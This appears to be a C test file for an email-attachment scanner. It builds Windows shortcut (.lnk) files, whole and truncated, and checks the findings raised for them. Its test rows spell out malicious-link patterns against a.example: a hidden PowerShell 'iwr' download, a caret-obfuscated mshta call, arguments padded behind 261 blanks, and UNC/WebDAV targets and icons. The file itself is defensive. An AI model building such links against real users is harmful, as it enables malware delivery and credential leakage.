/* Shell links as they are built from their parts, whole and damaged; and what is raised for them.
 */
#include "content/lnk.h"

#include "base/buf.h"
#include "content/attach_test_kit.h"

static struct kit kit;

enum {
    ITEMS = 1,
    INFO = 2,
    NAME = 4,
    RELATIVE = 8,
    FOLDER = 16,
    ARGUMENTS = 32,
    ICON = 64,
    UNICODE = 128
};

/* The parts of a link; NULL is absent. */
struct parts {
    const char *items, *local, *share, *suffix, *relative, *folder, *arguments, *icon, *expanded;
    unsigned blanks; /* in front of the arguments */
    bool unicode;
};

static void add16(struct buf *b, unsigned v)
{
    buf_addc(b, (char)(v & 0xff));
    buf_addc(b, (char)(v >> 8));
}

static void add32(struct buf *b, unsigned v)
{
    add16(b, v & 0xffff);
    add16(b, v >> 16);
}

static void add_zeros(struct buf *b, size_t n)
{
    while (n-- > 0)
        buf_addc(b, 0);
}

static void add_string(struct buf *b, const struct parts *p, const char *text, unsigned blanks)
{
    if (text == NULL)
        return;
    add16(b, (unsigned)strlen(text) + blanks);
    for (unsigned i = 0; i < blanks + strlen(text); i++) {
        char c = i < blanks ? ' ' : text[i - blanks];
        buf_addc(b, c);
        if (p->unicode)
            buf_addc(b, 0);
    }
}

/* [MS-SHLLINK] 2.3, with ANSI text. */
static void add_info(struct buf *b, const struct parts *p)
{
    const char *suffix = p->suffix != NULL ? p->suffix : "";
    unsigned base = 28, n = (unsigned)(p->share != NULL ? 20 + strlen(p->share) : strlen(p->local));
    unsigned after = base + n + 1;
    add32(b, after + (unsigned)strlen(suffix) + 1);
    add32(b, base);
    add32(b, p->share != NULL ? 2 : 1);
    add32(b, 0);
    add32(b, p->share != NULL ? 0 : base);
    add32(b, p->share != NULL ? base : 0);
    add32(b, after);
    if (p->share != NULL) {
        add32(b, n + 1);
        add32(b, 0);
        add32(b, 20);
        add32(b, 0);
        add32(b, 0);
    }
    buf_addz(b, p->share != NULL ? p->share : p->local);
    buf_addc(b, 0);
    buf_addz(b, suffix);
    buf_addc(b, 0);
}

static struct str build(const struct parts *p)
{
    struct buf b;
    buf_init(&b, 1 << 20);
    bool info = p->local != NULL || p->share != NULL;
    buf_add(&b, STR("L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F"));
    add32(&b, (p->items ? ITEMS : 0u) | (info ? INFO : 0u) | (p->relative ? RELATIVE : 0u) |
                  (p->folder ? FOLDER : 0u) | (p->arguments ? ARGUMENTS : 0u) |
                  (p->icon ? ICON : 0u) | (p->unicode ? UNICODE : 0u));
    add_zeros(&b, 76 - 24);
    if (p->items != NULL) {
        add16(&b, (unsigned)strlen(p->items) + 2);
        buf_addz(&b, p->items);
        add16(&b, 0);
    }
    if (info)
        add_info(&b, p);
    add_string(&b, p, p->relative, 0);
    add_string(&b, p, p->folder, 0);
    add_string(&b, p, p->arguments, p->blanks);
    add_string(&b, p, p->icon, 0);
    if (p->expanded != NULL) {
        add32(&b, 0x314);
        add32(&b, 0xa0000001);
        size_t from = b.n;
        buf_addz(&b, p->expanded);
        add_zeros(&b, from + 780 - b.n);
    }
    add32(&b, 0);
    struct str out = arena_copy(&kit.arena, buf_str(&b));
    buf_clear(&b);
    return out;
}

static const struct {
    const char *label;
    struct parts parts;
    const char *evidence, *remote; /* of attach.lnk and attach.url.unc; NULL: none */
} rows[] = {
    {"plain program",
     {.local = "C:\\Windows\\notepad.exe"},
     "starts C:\\Windows\\notepad.exe",
     NULL},
    {"folder and file below it",
     {.local = "C:\\Windows\\", .suffix = "write.exe"},
     "starts C:\\Windows\\write.exe",
     NULL},
    {"script by PowerShell",
     {.local = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe",
      .arguments = "-w hidden iwr http://a.example",
      .unicode = true},
     "uses iwr; starts C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe -w hidden",
     NULL},
    {"command with carets",
     {.relative = "..\\x", .arguments = "/c m^sh^ta http://a.example"},
     "uses mshta; ",
     NULL},
    {"program named in its items alone",
     {.items = "P\x1f\xe0"
               "/C:\\ 2 cmd.exe"},
     "uses cmd; ",
     NULL},
    {"environment",
     {.expanded = "%COMSPEC%\\..\\cmd.exe", .arguments = "/c a"},
     "uses cmd; starts %COMSPEC%\\..\\cmd.exe /c a",
     NULL},
    {"word within a word", {.local = "C:\\cmdline.exe"}, "starts C:\\cmdline.exe", NULL},
    {"260 blanks",
     {.local = "C:\\a.exe", .arguments = "x", .blanks = 260},
     "starts C:\\a.exe [260",
     NULL},
    {"261 blanks",
     {.local = "C:\\a.exe", .arguments = "x", .blanks = 261, .unicode = true},
     "hides its arguments behind blanks; starts C:\\a.exe [261 blanks]x",
     NULL},
    {"share",
     {.share = "\\\\a.example\\s", .suffix = "a.exe"},
     "starts \\\\a.example\\s\\a.exe",
     "target \\\\a.example\\s\\a.exe"},
    {"share in the arguments",
     {.local = "C:\\a.exe", .arguments = "/open \"\\\\a.example\\s\""},
     "starts",
     "arguments \\\\a.example\\s"},
    {"WebDAV in the arguments",
     {.local = "C:\\a.exe", .arguments = "x@SSL\\DavWWWRoot\\y"},
     "starts",
     "arguments x@SSL"},
    {"icon on a share",
     {.local = "C:\\a.exe", .icon = "\\\\a.example\\i.ico"},
     "starts",
     "icon \\\\a.example\\i.ico"},
    {"device of this machine", {.local = "\\\\?\\C:\\a.exe"}, "starts", NULL},
    {"share by its long name", {.local = "\\\\?\\UNC\\a.example\\s"}, "starts", "target"},
    {"backslashes in a word",
     {.local = "C:\\a.exe", .arguments = "a\\\\b C:\\\\c"},
     "starts",
     NULL},
};

static void check(struct str bytes)
{
    static const struct mime_name name = {NAME_TYPE, STR_INIT("a.lnk"), 0};
    kit_row(&kit);
    kit.objects[0] = (struct content_object){.part = STR("1"),
                                             .parent = -1,
                                             .names = &name,
                                             .n_names = 1,
                                             .bytes = bytes,
                                             .has_bytes = true,
                                             .kind = file_type_of(bytes)};
    attach_check(&kit.content, &kit.objects[0]);
}

static void test_rows(void)
{
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        tap_case("attach.lnk: %s", rows[i].label);
        check(build(&rows[i].parts));
        kit_expect(&kit, FINDING_ATTACH_LNK, true, SEV_HIGH, rows[i].evidence);
        kit_expect(&kit, FINDING_ATTACH_URL_UNC, rows[i].remote != NULL, SEV_HIGH, rows[i].remote);
        kit_expect(&kit, FINDING_ATTACH_EXTENSION_DANGEROUS, true, SEV_HIGH, "lnk");
        const struct finding *f = kit_find(&kit, FINDING_ATTACH_LNK);
        tap_ok(f != NULL && str_search(f->evidence, STR("(damaged)")) == f->evidence.n);
    }
    tap_case("attach.lnk: bytes of another class");
    check(STR("L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0G"));
    kit_expect(&kit, FINDING_ATTACH_LNK, false, SEV_INFO, NULL);
}

/* Each cut is read without a step outside of it, and told as damaged where it lost something. */
static void test_cuts(void)
{
    const struct parts *p = &rows[2].parts;
    struct str whole = build(p);
    tap_case("attach.lnk: cut anywhere");
    unsigned raised = 0, damaged = 0;
    for (size_t n = 20; n < whole.n; n++) {
        char *exact = malloc(n);
        if (exact == NULL)
            abort();
        memcpy(exact, whole.p, n);
        check(str_make(exact, n));
        const struct finding *f = kit_find(&kit, FINDING_ATTACH_LNK);
        raised += f != NULL;
        damaged += f != NULL && str_search(f->evidence, STR("(damaged)")) < f->evidence.n;
        free(exact);
    }
    tap_int(raised, whole.n - 20);
    tap_ok(damaged > 0);
}

int main(void)
{
    kit_start(&kit);
    test_rows();
    test_cuts();
    arena_clear(&kit.arena);
    return tap_done();
}
